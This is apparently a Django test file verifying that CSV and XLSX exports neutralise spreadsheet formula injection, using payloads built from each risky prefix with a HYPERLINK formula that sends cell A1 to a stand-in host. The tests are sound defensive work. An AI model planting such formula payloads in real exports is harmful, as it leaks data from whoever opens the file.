"""Exports write every text cell as text: a title typed as a formula never runs (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.test import Client
from openpyxl import Workbook, load_workbook

from core.context import SYSTEM
from core.spreadsheets import FORMULA_PREFIXES, append_row, csv_row, csv_value
from core.tests.specs import make

PAYLOADS = [prefix + 'HYPERLINK("http://x.invalid/?q="&A1,"Mở")' for prefix in FORMULA_PREFIXES]


def test_every_risky_prefix_is_neutralised_in_csv():
    for payload in PAYLOADS:
        assert csv_value(payload) == "'" + payload
    assert csv_row(["Bình thường", 5, None, -3, "a=b"]) == ["Bình thường", 5, None, -3, "a=b"]


def test_an_xlsx_text_cell_stays_text_and_shows_as_typed():
    wb = Workbook()
    append_row(wb.active, [*PAYLOADS, 42, "thường", "tab\x0bcontrol"])
    out = io.BytesIO()
    wb.save(out)
    _assert_no_formula(out.getvalue())
    cells = next(iter(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows()))
    for cell, payload in zip(cells, PAYLOADS, strict=False):
        assert cell.data_type == "s" and cell.value == payload and cell.quotePrefix
    assert cells[len(PAYLOADS)].value == 42
    assert not cells[len(PAYLOADS) + 1].quotePrefix
    assert cells[-1].value == "tabcontrol"  # characters XML cannot carry are dropped, not a 500


def _assert_no_formula(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


@pytest.mark.django_db
def test_list_exports_neutralise_every_prefix(units, users):
    """CSV gets the apostrophe; XLSX a text cell with the quote prefix, never a formula."""
    qn = units["CA-QUANG-NINH"]
    for payload in PAYLOADS:
        make(SYSTEM, qn, "thuong", title=payload)
    c = Client()
    c.force_login(users["qninh"])
    response = c.get("/sample/records/", {"export": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff"))))
    titles = {row[0] for row in rows}
    for payload in PAYLOADS:
        assert "'" + payload in titles
        assert payload not in titles
    response = c.get("/sample/records/", {"export": "xlsx"})
    _assert_no_formula(response.content)
    values = {
        cell.value: cell
        for row in load_workbook(io.BytesIO(response.content)).active.iter_rows()
        for cell in row
    }
    for payload in PAYLOADS:
        assert values[payload].data_type == "s" and values[payload].quotePrefix


def test_the_report_annex_writes_labels_as_text():
    from reports.documents import build_xlsx

    facts = {
        "start": "2026-01-01",
        "end": "2026-06-30",
        "as_of": "2026-06-30",
        "sections": [
            {
                "heading": PAYLOADS[0],
                "figures": [{"label": PAYLOADS[1], "value": "=1+1", "source": PAYLOADS[3]}],
                "table": {"columns": ["A"], "rows": [[PAYLOADS[2]]]},
            }
        ],
    }
    content = build_xlsx(facts, {"summary": PAYLOADS[4]})
    _assert_no_formula(content)
    wb = load_workbook(io.BytesIO(content))
    texts = [c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert PAYLOADS[1] in texts and "=1+1" in texts and PAYLOADS[2] in texts
